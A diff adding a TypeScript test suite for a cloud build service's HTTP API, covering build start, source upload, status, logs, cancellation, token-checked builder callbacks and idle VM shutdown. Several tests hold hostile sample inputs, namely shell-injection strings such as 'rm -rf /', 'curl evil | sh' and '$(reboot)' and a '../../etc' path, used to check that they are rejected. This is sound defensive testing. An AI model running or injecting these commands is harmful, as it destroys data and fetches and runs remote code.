@@ -1,0 +1,618 @@
+import {
+  MAX_UPLOAD_BYTES,
+  call,
+  startTestCloud,
+  timerContext,
+  type CallInit,
+  type TestCloud,
+} from "./support.js";
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { after, before, beforeEach, describe, it } from "node:test";
+import type { HttpHandler } from "@azure/functions";
+import type {
+  BuildStatus,
+  ErrorResponse,
+  LogsResponse,
+  StartBuildResponse,
+  BuilderInfo,
+} from "../../src/core/api.js";
+import {
+  BUILD_EVENTS,
+  BUILD_ORCHESTRATOR,
+  buildIdSchema,
+  builderKey,
+  logBlobName,
+  type BuildInput,
+} from "../../src/core/buildInput.js";
+import { BUILD_RESULT_VERSION, type BuildResult } from "../../src/core/buildResult.js";
+import { initialStatus, withStep } from "../../src/core/status.js";
+import { emptyRecord } from "../../src/core/lease.js";
+import { loadConfig } from "../../src/config/index.js";
+import { buildCallback } from "../../src/functions/buildCallback.js";
+import { cancelBuild } from "../../src/functions/cancelBuild.js";
+import { setDeps } from "../../src/functions/deps.js";
+import { getBuild } from "../../src/functions/getBuild.js";
+import { getLogs } from "../../src/functions/getLogs.js";
+import { runIdleShutdown } from "../../src/functions/idleShutdown.js";
+import { listBuilders } from "../../src/functions/listBuilders.js";
+import { sourceUploaded } from "../../src/functions/sourceUploaded.js";
+import { startBuild } from "../../src/functions/startBuild.js";
+import { startLocalHost, type LocalHost } from "../../src/local/host/index.js";
+
+const SOURCE = Buffer.from("pretend this is a tar.gz of a cargo workspace\n".repeat(10));
+const DIGEST = `sha256:${createHash("sha256").update(SOURCE).digest("hex")}`;
+
+describe("HTTP API", () => {
+  let cloud: TestCloud;
+
+  before(async () => {
+    cloud = await startTestCloud();
+    setDeps(cloud.deps);
+  });
+  after(async () => {
+    setDeps(undefined);
+    await cloud.stop();
+  });
+
+  const invoke = (handler: HttpHandler, name: string, init: CallInit) => call(cloud.rpc, handler, name, init);
+  const post = (body: unknown) =>
+    invoke(startBuild, "startBuild", {
+      method: "POST",
+      path: "builds",
+      body: typeof body === "string" ? body : JSON.stringify(body),
+    });
+  const errorOf = (body: unknown) => (body as ErrorResponse).error;
+
+  async function started(
+    request: Record<string, unknown> = {},
+  ): Promise<StartBuildResponse & { input: BuildInput }> {
+    const res = await post({ environment: "dev", sourceDigest: DIGEST, ...request });
+    assert.equal(res.status, 202, res.text);
+    const body = res.body as StartBuildResponse;
+    const input = (await cloud.engine.getStatus(body.buildId))?.input as BuildInput;
+    return { ...body, input };
+  }
+
+  async function upload(url: string, bytes: Buffer): Promise<Response> {
+    return fetch(url, { method: "PUT", body: bytes, headers: { "x-ms-blob-type": "BlockBlob" } });
+  }
+
+  describe("POST /api/builds", () => {
+    it("starts the orchestration at once and answers 202 with a working upload URL", async () => {
+      const res = await post({
+        environment: "dev",
+        sourceDigest: DIGEST,
+        branch: "feature/x-1",
+        commit: "abc1234",
+      });
+      assert.equal(res.status, 202, res.text);
+      const body = res.body as StartBuildResponse;
+      assert.ok(buildIdSchema.safeParse(body.buildId).success, body.buildId);
+      assert.equal(body.statusUrl, `/api/builds/${body.buildId}`);
+      assert.equal(body.sourceCompleteUrl, `/api/builds/${body.buildId}/source`);
+      assert.equal(body.upload.maxBytes, MAX_UPLOAD_BYTES);
+
+      const instance = await cloud.engine.getStatus(body.buildId);
+      assert.equal(instance?.name, BUILD_ORCHESTRATOR);
+      assert.equal(instance?.runtimeStatus, "Running");
+      const input = instance?.input as BuildInput;
+      assert.equal(input.environment, "dev");
+      assert.equal(input.sourceDigest, DIGEST);
+      assert.equal(input.branch, "feature/x-1");
+      assert.equal(input.deploy, true);
+      assert.match(input.callbackToken, /^[A-Za-z0-9_-]{43}$/);
+
+      assert.equal((await upload(body.upload.url, SOURCE)).status, 201);
+      // Write-only: the upload grant cannot read the blob back.
+      assert.equal((await fetch(body.upload.url)).status, 403);
+
+      // Logs name the build and never carry the SAS signature or the callback token.
+      assert.ok(res.logs.length > 0);
+      for (const line of res.logs) {
+        assert.ok(line.includes(`[build ${body.buildId}]`), line);
+        assert.ok(!line.includes(input.callbackToken), line);
+        assert.ok(!/sig=/.test(line), line);
+      }
+      assert.ok(!res.text.includes(input.callbackToken), "the token is not handed to the client");
+    });
+
+    it("gives every build its own id and callback token", async () => {
+      const [a, b] = await Promise.all([started(), started()]);
+      assert.notEqual(a.buildId, b.buildId);
+      assert.notEqual(a.input.callbackToken, b.input.callbackToken);
+    });
+
+    it("refuses an unknown environment, naming the known ones, and starts nothing", async () => {
+      const before = cloud.engine.instances.size;
+      const res = await post({ environment: "staging", sourceDigest: DIGEST });
+      assert.equal(res.status, 400);
+      assert.equal(errorOf(res.body).code, "UnknownEnvironment");
+      assert.match(errorOf(res.body).message, /"staging"/);
+      assert.match(errorOf(res.body).hint ?? "", /dev, prod/);
+      assert.equal(cloud.engine.instances.size, before);
+    });
+
+    it("refuses malformed JSON", async () => {
+      const res = await post('{"environment": "dev", ');
+      assert.equal(res.status, 400);
+      assert.equal(errorOf(res.body).code, "MalformedJson");
+    });
+
+    it("refuses an empty body", async () => {
+      const res = await invoke(startBuild, "startBuild", { method: "POST", path: "builds" });
+      assert.equal(res.status, 400);
+      assert.equal(errorOf(res.body).code, "MissingBody");
+    });
+
+    it("refuses a body over 16 KB with 413", async () => {
+      const res = await post({ environment: "dev", sourceDigest: DIGEST, padding: "x".repeat(17 * 1024) });
+      assert.equal(res.status, 413);
+      assert.equal(errorOf(res.body).code, "RequestTooLarge");
+    });
+
+    for (const [field, value] of [
+      ["commit", "abc1234; rm -rf /"],
+      ["commit", "abc1234\n"],
+      ["branch", "main\nrm -rf /"],
+      ["branch", "$(reboot)"],
+      ["branch", "main && curl evil"],
+      ["branch", "`id`"],
+    ] as const) {
+      it(`refuses a ${field} with shell metacharacters or newlines: ${JSON.stringify(value)}`, async () => {
+        const before = cloud.engine.instances.size;
+        const res = await post({ environment: "dev", sourceDigest: DIGEST, [field]: value });
+        assert.equal(res.status, 400);
+        assert.equal(errorOf(res.body).code, "InvalidRequest");
+        assert.match(errorOf(res.body).message, new RegExp(`${field}:`));
+        assert.equal(cloud.engine.instances.size, before);
+      });
+    }
+
+    it("refuses a malformed source digest, saying what it must look like", async () => {
+      const res = await post({ environment: "dev", sourceDigest: "md5:1234" });
+      assert.equal(res.status, 400);
+      assert.match(errorOf(res.body).message, /sourceDigest: must be sha256:<64 lower-case hex digits>/);
+    });
+
+    it("refuses unknown fields", async () => {
+      const res = await post({ environment: "dev", sourceDigest: DIGEST, script: "curl evil | sh" });
+      assert.equal(res.status, 400);
+      assert.match(errorOf(res.body).message, /script/);
+    });
+
+    it("refuses an announced archive over the upload limit with 413", async () => {
+      const res = await post({ environment: "dev", sourceDigest: DIGEST, sourceBytes: MAX_UPLOAD_BYTES + 1 });
+      assert.equal(res.status, 413);
+      assert.equal(errorOf(res.body).code, "SourceTooLarge");
+    });
+  });
+
+  describe("POST /api/builds/{id}/source", () => {
+    const complete = (id: string) =>
+      invoke(sourceUploaded, "sourceUploaded", {
+        method: "POST",
+        path: `builds/${id}/source`,
+        params: { id },
+      });
+
+    it("raises SourceUploaded once the archive is there and matches the digest", async () => {
+      const build = await started();
+      await upload(build.upload.url, SOURCE);
+      const res = await complete(build.buildId);
+      assert.equal(res.status, 202, res.text);
+      assert.deepEqual(
+        cloud.engine.events.filter((e) => e.instanceId === build.buildId),
+        [{ instanceId: build.buildId, name: BUILD_EVENTS.sourceUploaded, data: { size: SOURCE.length } }],
+      );
+    });
+
+    it("says to upload first when no archive is there", async () => {
+      const build = await started();
+      const res = await complete(build.buildId);
+      assert.equal(res.status, 400);
+      assert.equal(errorOf(res.body).code, "SourceNotUploaded");
+      assert.match(errorOf(res.body).hint ?? "", /upload URL/);
+    });
+
+    it("refuses an archive whose digest differs from the one announced, and raises nothing", async () => {
+      const build = await started();
+      await upload(build.upload.url, Buffer.from("something else"));
+      const res = await complete(build.buildId);
+      assert.equal(res.status, 400);
+      assert.equal(errorOf(res.body).code, "SourceDigestMismatch");
+      assert.match(errorOf(res.body).hint ?? "", /Upload exactly the archive/);
+      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
+    });
+
+    it("refuses an archive over the size limit with 413", async () => {
+      const big = Buffer.alloc(MAX_UPLOAD_BYTES + 1, 1);
+      const build = await started({
+        sourceDigest: `sha256:${createHash("sha256").update(big).digest("hex")}`,
+      });
+      await upload(build.upload.url, big);
+      const res = await complete(build.buildId);
+      assert.equal(res.status, 413);
+      assert.equal(errorOf(res.body).code, "SourceTooLarge");
+    });
+
+    it("answers 409 when the source was already received or the build has ended", async () => {
+      const build = await started();
+      await upload(build.upload.url, SOURCE);
+      const status = initialStatus(build.buildId, "dev", "builder-dev", new Date().toISOString());
+      cloud.engine.publish(build.buildId, withStep(status, "source", "succeeded", new Date().toISOString()));
+      const again = await complete(build.buildId);
+      assert.equal(again.status, 409);
+      assert.equal(errorOf(again.body).code, "SourceAlreadyReceived");
+
+      cloud.engine.complete(build.buildId, "Failed");
+      const ended = await complete(build.buildId);
+      assert.equal(ended.status, 409);
+      assert.equal(errorOf(ended.body).code, "BuildEnded");
+    });
+
+    it("answers 404 for an unknown build and 400 for something that is not a build id", async () => {
+      const unknown = await complete("20200101000000-0000000000");
+      assert.equal(unknown.status, 404);
+      assert.equal(errorOf(unknown.body).code, "BuildNotFound");
+      const bad = await complete("../../etc");
+      assert.equal(bad.status, 400);
+      assert.equal(errorOf(bad.body).code, "InvalidBuildId");
+    });
+  });
+
+  describe("GET /api/builds/{id}", () => {
+    const status = (id: string) =>
+      invoke(getBuild, "getBuild", { method: "GET", path: `builds/${id}`, params: { id } });
+
+    it("shows the status the orchestration published", async () => {
+      const build = await started();
+      const published = withStep(
+        {
+          ...initialStatus(build.buildId, "dev", "builder-dev", build.input.createdAt),
+          phase: "building" as const,
+        },
+        "build",
+        "running",
+        new Date().toISOString(),
+      );
+      cloud.engine.publish(build.buildId, published);
+      const res = await status(build.buildId);
+      assert.equal(res.status, 200);
+      assert.deepEqual(res.body, published);
+    });
+
+    it("reports a crashed orchestration as failed with a hint", async () => {
+      const build = await started();
+      cloud.engine.complete(build.buildId, "Failed");
+      const body = (await status(build.buildId)).body as BuildStatus;
+      assert.equal(body.phase, "failed");
+      assert.equal(body.terminal, true);
+      assert.ok(body.error?.hint);
+    });
+
+    it("answers 404 for an unknown build", async () => {
+      assert.equal((await status("20200101000000-aaaaaaaaaa")).status, 404);
+    });
+  });
+
+  describe("GET /api/builds/{id}/logs", () => {
+    const logs = (id: string, query = "") =>
+      invoke(getLogs, "getLogs", { method: "GET", path: `builds/${id}/logs${query}`, params: { id } });
+
+    it("follows the log from an offset, empty before the builder wrote anything", async () => {
+      const build = await started();
+      assert.deepEqual((await logs(build.buildId)).body, {
+        text: "",
+        nextOffset: 0,
+        size: 0,
+        complete: false,
+      });
+
+      await cloud.deps.logs.createAppendLog(logBlobName(build.buildId), 10);
+      await cloud.deps.logs.append(logBlobName(build.buildId), "step 1\nstep 2\n");
+      const first = (await logs(build.buildId, "?offset=0")).body as LogsResponse;
+      assert.deepEqual(first, { text: "step 1\nstep 2\n", nextOffset: 14, size: 14, complete: false });
+      const rest = (await logs(build.buildId, "?offset=7")).body as LogsResponse;
+      assert.equal(rest.text, "step 2\n");
+
+      cloud.engine.complete(build.buildId, "Completed");
+      assert.equal(((await logs(build.buildId, "?offset=14")).body as LogsResponse).complete, true);
+    });
+
+    it("refuses an offset that is not a whole number", async () => {
+      const build = await started();
+      for (const query of ["?offset=-1", "?offset=abc", "?offset=1.5", "?maxBytes=0"]) {
+        const res = await logs(build.buildId, query);
+        assert.equal(res.status, 400, query);
+        assert.equal(errorOf(res.body).code, "InvalidQuery");
+      }
+    });
+  });
+
+  describe("POST /api/builds/{id}/cancel", () => {
+    const cancel = (id: string, body?: string) =>
+      invoke(cancelBuild, "cancelBuild", {
+        method: "POST",
+        path: `builds/${id}/cancel`,
+        params: { id },
+        ...(body ? { body } : {}),
+      });
+
+    it("raises CancelRequested for a running build", async () => {
+      const build = await started();
+      const res = await cancel(build.buildId, JSON.stringify({ reason: "wrong branch" }));
+      assert.equal(res.status, 202);
+      assert.deepEqual(
+        cloud.engine.events.filter((e) => e.instanceId === build.buildId),
+        [{ instanceId: build.buildId, name: BUILD_EVENTS.cancelRequested, data: { reason: "wrong branch" } }],
+      );
+    });
+
+    it("answers 409 for an ended build and 404 for an unknown one", async () => {
+      const build = await started();
+      cloud.engine.complete(build.buildId, "Completed");
+      assert.equal((await cancel(build.buildId)).status, 409);
+      assert.equal((await cancel("20200101000000-bbbbbbbbbb")).status, 404);
+    });
+  });
+
+  describe("POST /api/builds/{id}/callback", () => {
+    const result = (buildId: string): BuildResult => ({
+      fastbuild: "result",
+      version: BUILD_RESULT_VERSION,
+      buildId,
+      status: "succeeded",
+      exitReason: "ok",
+      exitCode: 0,
+      image: "127.0.0.1:5000/apps/demo:abc",
+      skipped: false,
+      timings: { download: 120, app: 3000 },
+    });
+    const callback = (id: string, token: string | undefined, body: string) =>
+      invoke(buildCallback, "buildCallback", {
+        method: "POST",
+        path: `builds/${id}/callback`,
+        params: { id },
+        body,
+        headers: token === undefined ? {} : { "x-fastbuild-token": token },
+      });
+
+    it("raises BuildCompleted when the builder presents its build's token", async () => {
+      const build = await started();
+      const res = await callback(
+        build.buildId,
+        build.input.callbackToken,
+        JSON.stringify(result(build.buildId)),
+      );
+      assert.equal(res.status, 202, res.text);
+      const events = cloud.engine.events.filter((e) => e.instanceId === build.buildId);
+      assert.equal(events.length, 1);
+      assert.equal(events[0]?.name, BUILD_EVENTS.buildCompleted);
+      assert.deepEqual(events[0]?.data, result(build.buildId));
+      for (const line of res.logs) assert.ok(!line.includes(build.input.callbackToken), line);
+    });
+
+    it("answers 401 and raises nothing for a missing or wrong token (even another build's)", async () => {
+      const [build, other] = await Promise.all([started(), started()]);
+      const body = JSON.stringify(result(build.buildId));
+      for (const token of [
+        undefined,
+        "",
+        "not-the-token",
+        other.input.callbackToken,
+        `${build.input.callbackToken}x`,
+      ]) {
+        const res = await callback(build.buildId, token, body);
+        assert.equal(res.status, 401, String(token));
+        assert.equal(errorOf(res.body).code, "InvalidCallbackToken");
+      }
+      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
+    });
+
+    it("refuses a result that is not a valid result line, or is for another build", async () => {
+      const build = await started();
+      const token = build.input.callbackToken;
+      assert.equal((await callback(build.buildId, token, "{not json")).status, 400);
+      assert.equal(
+        (await callback(build.buildId, token, JSON.stringify({ status: "succeeded" }))).status,
+        400,
+      );
+      const other = await callback(build.buildId, token, JSON.stringify(result("20200101000000-cccccccccc")));
+      assert.equal(other.status, 400);
+      assert.equal(errorOf(other.body).code, "BuildIdMismatch");
+      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
+    });
+
+    it("acknowledges the script's heartbeats without raising anything", async () => {
+      const build = await started();
+      const beat = JSON.stringify({
+        fastbuild: "heartbeat",
+        version: 1,
+        buildId: build.buildId,
+        step: "app",
+        elapsedMs: 30_000,
+      });
+      assert.equal((await callback(build.buildId, build.input.callbackToken, beat)).status, 202);
+      assert.equal((await callback(build.buildId, "wrong-token", beat)).status, 401);
+      assert.equal(cloud.engine.events.filter((e) => e.instanceId === build.buildId).length, 0);
+    });
+
+    it("answers 404 for an unknown build", async () => {
+      const res = await callback(
+        "20200101000000-dddddddddd",
+        "whatever-token",
+        JSON.stringify(result("20200101000000-dddddddddd")),
+      );
+      assert.equal(res.status, 404);
+    });
+  });
+
+  describe("through the local host over HTTP", () => {
+    const KEY = "flow-test-function-key";
+    let host: LocalHost;
+
+    before(async () => {
+      host = await startLocalHost({
+        entry: new URL("../../src/functions/index.ts", import.meta.url).href,
+        engine: cloud.engine,
+        functionKey: KEY,
+        log: () => undefined,
+      });
+    });
+    after(() => host.stop());
+
+    const api = (path: string, init: RequestInit = {}, key: string | null = KEY) =>
+      fetch(`${host.url}/api/${path}`, {
+        ...init,
+        headers: {
+          "content-type": "application/json",
+          ...(key ? { "x-functions-key": key } : {}),
+          ...(init.headers as Record<string, string>),
+        },
+      });
+
+    it("runs start → upload → source → status → callback → logs as a client and the builder would", async () => {
+      assert.equal((await api("builds", { method: "POST", body: "{}" }, null)).status, 401);
+
+      const start = await api("builds", {
+        method: "POST",
+        body: JSON.stringify({ environment: "prod", sourceDigest: DIGEST }),
+      });
+      assert.equal(start.status, 202);
+      const build = (await start.json()) as StartBuildResponse;
+      assert.equal((await upload(build.upload.url, SOURCE)).status, 201);
+      assert.equal((await api(`builds/${build.buildId}/source`, { method: "POST" })).status, 202);
+
+      const status = await api(`builds/${build.buildId}`);
+      assert.equal(status.status, 200);
+      assert.equal(((await status.json()) as BuildStatus).environment, "prod");
+
+      // The builder has no function key: only its build's token.
+      const token = ((await cloud.engine.getStatus(build.buildId))?.input as BuildInput).callbackToken;
+      const line = JSON.stringify({
+        fastbuild: "result",
+        version: BUILD_RESULT_VERSION,
+        buildId: build.buildId,
+        status: "failed",
+        exitReason: "app-build",
+        exitCode: 21,
+        skipped: false,
+        timings: {},
+      });
+      assert.equal(
+        (await api(`builds/${build.buildId}/callback`, { method: "POST", body: line }, null)).status,
+        401,
+      );
+      const accepted = await api(
+        `builds/${build.buildId}/callback`,
+        { method: "POST", body: line, headers: { "x-fastbuild-token": token } },
+        null,
+      );
+      assert.equal(accepted.status, 202);
+      assert.deepEqual(
+        cloud.engine.events.filter((e) => e.instanceId === build.buildId).map((e) => e.name),
+        [BUILD_EVENTS.sourceUploaded, BUILD_EVENTS.buildCompleted],
+      );
+
+      const logs = await api(`builds/${build.buildId}/logs?offset=0`);
+      assert.equal(logs.status, 200);
+      assert.equal(((await logs.json()) as LogsResponse).size, 0);
+    });
+
+    it("answers an oversized request body with 413", async () => {
+      const res = await api("builds", {
+        method: "POST",
+        body: JSON.stringify({ environment: "dev", padding: "x".repeat(20_000) }),
+      });
+      assert.equal(res.status, 413);
+      assert.equal(errorOf(await res.json()).code, "RequestTooLarge");
+    });
+  });
+
+  describe("unexpected failures", () => {
+    beforeEach(() => setDeps(cloud.deps));
+    after(() => setDeps(cloud.deps));
+
+    it("answer a generic 500 with a correlation id and no internal detail", async () => {
+      // A broken app setting: the composition root fails with the real configuration error.
+      setDeps(() => ({
+        ...cloud.deps,
+        config: loadConfig({ FASTBUILD_ENVIRONMENTS: "{oops", AzureWebJobsStorage: "AccountKey=c2VjcmV0" }),
+      }));
+      const res = await post({ environment: "dev", sourceDigest: DIGEST });
+      assert.equal(res.status, 500);
+      const error = errorOf(res.body);
+      assert.equal(error.code, "InternalError");
+      assert.ok(error.correlationId);
+      assert.doesNotMatch(res.text, /FASTBUILD_ENVIRONMENTS|AccountKey|stack|at /);
+      assert.ok(
+        res.logs.some((line) => line.includes(error.correlationId!) && /FASTBUILD_ENVIRONMENTS/.test(line)),
+      );
+      assert.ok(res.logs.every((line) => !line.includes("c2VjcmV0")));
+    });
+  });
+
+  describe("builders", () => {
+    const dev = {
+      subscriptionId: "00000000-0000-0000-0000-00000000abcd",
+      resourceGroup: "rg-builds",
+      vmName: "builder-dev",
+    };
+    const prod = { ...dev, vmName: "builder-prod" };
+    const old = new Date(Date.now() - 3 * 3600_000).toISOString();
+
+    before(() => {
+      cloud.arm.addVm(dev, { powerState: "running" });
+      cloud.arm.addVm(prod, { powerState: "running" });
+    });
+
+    it("GET /api/builders shows power state, lease holder, queue and idle shutdown time", async () => {
+      const expires = new Date(Date.now() + 600_000).toISOString();
+      await cloud.deps.leases.write(
+        {
+          ...emptyRecord(builderKey(dev)),
+          holder: "20260101000000-aaaaaaaaaa",
+          generation: 1,
+          leaseExpiresAt: expires,
+          acquiredAt: old,
+          lastActivityAt: old,
+          queue: [{ buildId: "20260101000001-bbbbbbbbbb", since: old, seenAt: new Date().toISOString() }],
+        },
+        undefined,
+      );
+      await cloud.deps.leases.write({ ...emptyRecord(builderKey(prod)), lastActivityAt: old }, undefined);
+
+      const res = await invoke(listBuilders, "listBuilders", { method: "GET", path: "builders" });
+      assert.equal(res.status, 200, res.text);
+      const infos = res.body as BuilderInfo[];
+      const devInfo = infos.find((info) => info.environment === "dev");
+      const prodInfo = infos.find((info) => info.environment === "prod");
+      assert.deepEqual(devInfo, {
+        name: "builder-dev",
+        environment: "dev",
+        powerState: "running",
+        leaseHolder: "20260101000000-aaaaaaaaaa",
+        leaseExpiresAt: expires,
+        queue: ["20260101000001-bbbbbbbbbb"],
+        lastActivityAt: old,
+      });
+      assert.equal(prodInfo?.powerState, "running");
+      assert.equal(prodInfo?.idleShutdownAt, new Date(Date.parse(old) + 30 * 60_000).toISOString());
+    });
+
+    it("the idle timer deallocates an idle builder, never one whose lease is fresh, and gives the lease back", async () => {
+      const logs: string[] = [];
+      const outcomes = await runIdleShutdown(cloud.deps, timerContext("idleShutdown", logs));
+      assert.deepEqual(outcomes.map((o) => [o.builder, o.action]).sort(), [
+        ["builder-dev", "kept"],
+        ["builder-prod", "deallocated"],
+      ]);
+      assert.equal(cloud.arm.getVm(dev)?.powerState, "running");
+      assert.equal(cloud.arm.getVm(prod)?.powerState, "deallocated");
+      const record = (await cloud.deps.leases.read(builderKey(prod)))?.record;
+      assert.equal(record?.holder, undefined);
+      assert.equal(record?.lastActivityAt, old, "a shutdown is not activity");
+    });
+  });
+});
